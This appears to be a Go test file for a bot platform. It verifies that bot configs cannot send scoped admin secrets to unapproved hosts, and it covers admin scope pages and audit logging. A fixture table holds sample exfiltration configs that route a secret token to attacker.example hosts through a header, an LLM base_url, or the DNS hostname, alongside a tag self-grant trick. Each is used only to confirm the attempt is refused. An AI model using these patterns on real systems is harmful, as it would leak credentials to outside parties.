package handlers_test

import (
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"github.com/codex32/codex32/internal/testutil"
	"github.com/codex32/codex32/models"
)

const adminSecretValue = "admin-only-0123456789"

// exfiltrations are configs that would send the admin's secret somewhere
// the bot's author chose.
var exfiltrations = []struct {
	name, kind string
	config     map[string]any
	field      string
}{
	{"http header to own server", "http", map[string]any{"url": "https://collect.attacker.example/", "headers": map[string]any{"X-Api-Key": "{{secret.API_TOKEN}}"}}, "config"},
	{"llm base_url to own server", "llm", map[string]any{"model": "gpt-4o-mini", "prompt_template": "hi", "base_url": "https://llm.attacker.example/v1", "api_key_secret": "API_TOKEN"}, "config"},
	{"llm default key", "llm", map[string]any{"model": "gpt-4o-mini", "prompt_template": "hi", "base_url": "https://llm.attacker.example/v1"}, "config"},
	{"secret in the host (DNS)", "http", map[string]any{"url": "http://{{secret.API_TOKEN}}.attacker.example/"}, "config.url"},
}

// scopedSecrets adds API_TOKEN and OPENAI_API_KEY, granted to the bots of
// the "payments" tag and sent only to api.payments.example.
func scopedSecrets(t *testing.T, a *testutil.App) {
	t.Helper()
	for _, name := range []string{"API_TOKEN", "OPENAI_API_KEY"} {
		_, err := models.PutSecret(context.Background(), a.DB.Bun, a.Secrets, models.SystemActor("test"), name, "", adminSecretValue,
			&models.SecretScope{Grants: models.SecretGrants{Tags: []string{"payments"}}, Hosts: []string{"api.payments.example"}})
		require.NoError(t, err)
	}
}

func refusedAudits(t *testing.T, a *testutil.App) int {
	t.Helper()
	n, err := a.DB.Bun.NewSelect().Table("audit_logs").Where("action = ?", "secret.refused").Count(context.Background())
	require.NoError(t, err)
	n2, err := a.DB.Bun.NewSelect().Table("audit_logs").Where("CAST(new_values AS TEXT) LIKE ?", "%"+adminSecretValue+"%").Count(context.Background())
	require.NoError(t, err)
	require.Zero(t, n2, "no audit row holds a secret's value")
	return int(n)
}

func TestSecretExfiltrationThroughTheAPIIsRefused(t *testing.T) { //nolint:tparallel // subtests count the refusal audit rows of the one app; they run in order
	t.Parallel()
	a := testutil.NewApp(t)
	scopedSecrets(t, a)
	api := newAPITester(t, a)
	for _, role := range []models.Role{models.RoleUser, models.RoleAPIUser} {
		_, key := apiUserKey(t, a, role)
		for _, x := range exfiltrations {
			t.Run(string(role)+"/"+x.name, func(t *testing.T) {
				before := refusedAudits(t, a)
				r := api.post("/api/v1/bots", key, map[string]any{"name": "x", "kind": x.kind, "config": x.config})
				require.Equal(t, s422, r.StatusCode, string(r.Body))
				msg := problemField(t, r, x.field)
				if x.field == "config" {
					require.Contains(t, msg, "secret "+secretNameIn(x.config)+": this bot may not use it")
				} else {
					require.Contains(t, msg, "a secret cannot be part of the URL's scheme, host or port")
				}
				require.NotContains(t, string(r.Body), adminSecretValue)
				if x.field == "config" {
					require.Equal(t, before+1, refusedAudits(t, a), "the refusal is audited")
				}
			})
		}
		t.Run(string(role)+"/patch onto an existing bot", func(t *testing.T) {
			r := api.post("/api/v1/bots", key, map[string]any{"name": "ok", "kind": "http", "config": map[string]any{"url": "https://api.payments.example/"}})
			require.Equal(t, s201, r.StatusCode, string(r.Body))
			var b botJSON
			r.decode(t, &b)
			r = api.patch("/api/v1/bots/"+b.ID, key, map[string]any{"config": exfiltrations[0].config})
			require.Equal(t, s422, r.StatusCode, string(r.Body))
			require.Contains(t, problemField(t, r, "config"), "secret API_TOKEN: this bot may not use it")
			// Tagging itself into the grant is for admins only.
			r = api.patch("/api/v1/bots/"+b.ID, key, map[string]any{"tags": []string{"payments"}})
			require.Equal(t, s422, r.StatusCode, string(r.Body))
			require.Contains(t, problemField(t, r, "tags"), `only an admin can add "payments"`)
			r = api.patch("/api/v1/bots/"+b.ID, key, map[string]any{"tags": []string{"payments"}, "config": exfiltrations[0].config})
			require.Equal(t, s422, r.StatusCode, string(r.Body))
		})
	}

	// An admin tags a bot into the grant; its author may then save configs
	// using the secret (the hosts still decide where it may go at run time).
	_, adminKey := apiUserKey(t, a, models.RoleAdmin)
	r := api.post("/api/v1/bots", adminKey, map[string]any{"name": "payments", "kind": "http", "tags": []string{"payments"},
		"config": map[string]any{"url": "https://api.payments.example/charge", "headers": map[string]any{"X-Api-Key": "{{secret.API_TOKEN}}"}}})
	require.Equal(t, s201, r.StatusCode, string(r.Body))
}

func secretNameIn(config map[string]any) string {
	if n, ok := config["api_key_secret"].(string); ok {
		return n
	}
	if config["kind"] == nil && config["model"] != nil {
		return "OPENAI_API_KEY"
	}
	return "API_TOKEN"
}

func problemField(t *testing.T, r *apiResp, field string) string {
	t.Helper()
	for _, e := range r.problem(t).Errors {
		if e.Field == field {
			return e.Message
		}
	}
	t.Fatalf("no problem for field %q in %s", field, r.Body)
	return ""
}

func TestSecretExfiltrationThroughThePagesIsRefused(t *testing.T) { //nolint:tparallel // subtests share one signed-in client and count audit rows; they run in order
	t.Parallel()
	a, c, u := signedIn(t, models.RoleUser)
	scopedSecrets(t, a)
	for _, x := range exfiltrations {
		t.Run(x.name, func(t *testing.T) {
			cfg, err := json.Marshal(x.config)
			require.NoError(t, err)
			r := c.Post("/bots", url.Values{"name": {"x"}, "kind": {x.kind}, "status": {"active"}, "config": {string(cfg)}})
			require.Equal(t, http.StatusUnprocessableEntity, r.StatusCode)
			want := "secret " + secretNameIn(x.config) + ": this bot may not use it"
			if x.field != "config" {
				want = "a secret cannot be part of the URL's scheme, host or port"
			}
			require.Contains(t, r.Doc(t).Find(`[data-testid="config-errors"]`).Text(), want)
			require.NotContains(t, r.Body, adminSecretValue)
		})
	}
	// The tag trick, on the page.
	b := apiBotFixture(t, a, u, false)
	r := c.Post("/bots/"+b.ID.String(), url.Values{"name": {b.Name}, "kind": {"http"}, "status": {"active"}, "tags": {"payments"},
		"config": {`{"url": "https://api.payments.example/"}`}, "base": {"1"}})
	require.Equal(t, http.StatusUnprocessableEntity, r.StatusCode)
	require.Contains(t, r.Doc(t).Find(`[data-testid="error-tags"]`).Text(), `Only an admin can add "payments"`)
	got, err := models.BotByID(context.Background(), a.DB.Bun, b.ID)
	require.NoError(t, err)
	require.NotContains(t, got.Tags, "payments", "nothing saved")
	require.Positive(t, refusedAudits(t, a))
}

func TestSecretScopePageGrantsAndRevokes(t *testing.T) {
	t.Parallel()
	a, c, _ := signedIn(t, models.RoleAdmin)
	owner := testutil.CreateUser(t, a.DB, models.RoleUser)
	b := apiBotFixture(t, a, owner, false)

	// A new secret with its scope in one form.
	r := c.Post("/admin/secrets", url.Values{"name": {"API_TOKEN"}, "value": {adminSecretValue}, "grant_tags": {"Payments, ops"},
		"grant_owners": {owner.Email}, "grant_bots": {"/bots/" + b.ID.String()}, "hosts": {"api.payments.example\n*.hooks.example"}})
	require.Equal(t, http.StatusSeeOther, r.StatusCode, r.Body)
	s, err := models.SecretByName(context.Background(), a.DB.Bun, "API_TOKEN")
	require.NoError(t, err)
	require.Equal(t, models.SecretGrants{Bots: []uuid.UUID{b.ID}, Tags: []string{"ops", "payments"}, Owners: []uuid.UUID{owner.ID}}, s.Grants)
	require.Equal(t, []string{"*.hooks.example", "api.payments.example"}, s.Hosts)
	row := c.Get("/admin/secrets").Doc(t).Find(`[data-testid="secret-row"]`)
	require.Contains(t, row.Find(`[data-testid="secret-grants"]`).Text(), owner.Email)
	require.Contains(t, row.Find(`[data-testid="secret-grants"]`).Text(), b.Name)
	require.Contains(t, row.Find(`[data-testid="secret-hosts"]`).Text(), "api.payments.example")

	// Replacing the value keeps the scope.
	require.Equal(t, http.StatusSeeOther, c.Post("/admin/secrets", url.Values{"name": {"API_TOKEN"}, "value": {"rotated-value-1234"}}).StatusCode)
	s, err = models.SecretByName(context.Background(), a.DB.Bun, "API_TOKEN")
	require.NoError(t, err)
	require.Len(t, s.Hosts, 2)

	// Bad entries are named, nothing changes.
	r = c.Post("/admin/secrets/API_TOKEN", url.Values{"grant_owners": {"nobody@example.com"}, "grant_bots": {"not-a-bot"}, "hosts": {"https://x.example/path"}})
	require.Equal(t, http.StatusUnprocessableEntity, r.StatusCode)
	d := r.Doc(t)
	require.Contains(t, d.Find(`[data-testid="error-grant_owners"]`).Text(), "nobody@example.com")
	require.Contains(t, d.Find(`[data-testid="error-grant_bots"]`).Text(), "not-a-bot")
	require.NotEmpty(t, d.Find(`[data-testid="error-hosts"]`).Text())

	// Revoke everything: audited with old and new scope, never the value.
	require.Equal(t, http.StatusSeeOther, c.Post("/admin/secrets/API_TOKEN", url.Values{"hosts": {"api.payments.example"}}).StatusCode)
	s, err = models.SecretByName(context.Background(), a.DB.Bun, "API_TOKEN")
	require.NoError(t, err)
	require.True(t, s.Grants.Empty())
	var audit models.AuditLog
	require.NoError(t, a.DB.Bun.NewSelect().Model(&audit).Where("action = ?", "secret.scope").Order("seq DESC").Limit(1).Scan(context.Background()))
	require.Contains(t, string(audit.OldValues), owner.ID.String())
	require.NotContains(t, string(audit.NewValues), owner.ID.String())
	require.NotContains(t, string(audit.OldValues)+string(audit.NewValues), "rotated-value-1234")
	require.NotContains(t, c.Get("/admin/secrets/API_TOKEN").Body, "rotated-value-1234")
}

// Secrets saved before scopes existed are usable by no bot, and admins see
// a notice until they choose.
func TestSecretsFromBeforeScopesFailClosed(t *testing.T) {
	t.Parallel()
	a, c, _ := signedIn(t, models.RoleAdmin)
	_, err := models.PutSecret(context.Background(), a.DB.Bun, a.Secrets, models.SystemActor("test"), "OLD_KEY", "", adminSecretValue, nil)
	require.NoError(t, err)
	// What migration 0009 leaves of an existing row: its defaults.
	_, err = a.DB.Bun.NewUpdate().Table("secrets").Set("scoped_at = NULL").Where("name = ?", "OLD_KEY").Exec(context.Background())
	require.NoError(t, err)

	d := c.Get("/admin/secrets").Doc(t)
	require.Contains(t, d.Find(`[data-testid="secrets-need-scope"]`).Text(), "1 secret was saved before secrets had scopes")
	require.Equal(t, 1, d.Find(`[data-testid="secret-needs-scope"]`).Length())
	require.Contains(t, c.Get("/").Doc(t).Find(`[data-testid="secrets-need-scope"]`).Text(), "1 secret")
	u := testutil.CreateUser(t, a.DB, models.RoleAdmin)
	refused, err := models.CheckSecretUse(context.Background(), a.DB.Bun, []string{"OLD_KEY"}, models.SecretUser{OwnerID: u.ID})
	require.NoError(t, err)
	require.Len(t, refused, 1, "not even an admin's bot may use it")

	require.Equal(t, http.StatusSeeOther, c.Post("/admin/secrets/OLD_KEY", url.Values{"grant_tags": {"ops"}, "hosts": {"api.example.com"}}).StatusCode)
	require.Zero(t, c.Get("/admin/secrets").Doc(t).Find(`[data-testid="secrets-need-scope"]`).Length())
}
